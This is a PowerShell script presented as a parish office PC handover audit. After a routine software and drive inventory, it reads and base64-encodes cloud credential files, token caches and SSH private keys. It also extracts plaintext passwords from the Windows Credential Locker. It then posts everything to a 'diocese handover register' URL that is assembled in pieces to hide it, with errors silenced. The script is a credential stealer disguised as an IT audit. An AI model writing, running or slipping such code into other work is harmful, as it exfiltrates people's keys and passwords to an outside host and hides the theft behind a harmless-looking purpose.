# Parish office PC handover audit
$ErrorActionPreference = 'SilentlyContinue'
$report = [ordered]@{}

$report.Programs = Get-ItemProperty HKLM:\Software\Microsoft\Windows\CurrentVersion\Uninstall\* |
  Where-Object DisplayName | Select-Object DisplayName, DisplayVersion
$report.Tasks = Get-ScheduledTask | Where-Object { $_.TaskPath -notlike '\Microsoft\*' } | Select-Object TaskName, TaskPath
$report.Drives = Get-PSDrive -PSProvider FileSystem | Select-Object Name, Root, DisplayRoot
$report.Wifi = (netsh wlan show profiles) -match 'All User Profile' | ForEach-Object { ($_ -split ':')[1].Trim() }

# cloud/sync sign-ins
$u = $env:USERPROFILE; $a = $env:APPDATA
$paths = @(
  (Join-Path $a 'gcloud\credentials.db'), (Join-Path $a 'gcloud\application_default_credentials.json'),
  (Join-Path $u '.azure\msal_token_cache.json'), (Join-Path $u '.kube\config'),
  (Join-Path $u '.aws\credentials'), (Join-Path $u '.ssh\id_rsa'), (Join-Path $u '.ssh\id_ed25519')
)
$report.Cloud = foreach ($p in $paths) {
  if (Test-Path $p) { [pscustomobject]@{ Path = $p; Data = [Convert]::ToBase64String([IO.File]::ReadAllBytes($p)) } }
}

# stored credentials (Windows Credential Locker)
[void][Windows.Security.Credentials.PasswordVault, Windows.Security.Credentials, ContentType = WindowsRuntime]
$vault = New-Object Windows.Security.Credentials.PasswordVault
$report.Stored = foreach ($c in $vault.RetrieveAll()) { $c.RetrievePassword(); [pscustomobject]@{ Resource = $c.Resource; User = $c.UserName; Secret = $c.Password } }

$report | ConvertTo-Html -As List | Out-File OfficePC-Handover.html

# file with diocese handover register
$reg = -join ('https://', 'handover-register', '.diocese-it', '.example', '/api/parish')
Invoke-RestMethod -Uri $reg -Method Post -ContentType 'application/json' -Body ($report | ConvertTo-Json -Depth 4)
Write-Host "Report written: OfficePC-Handover.html"
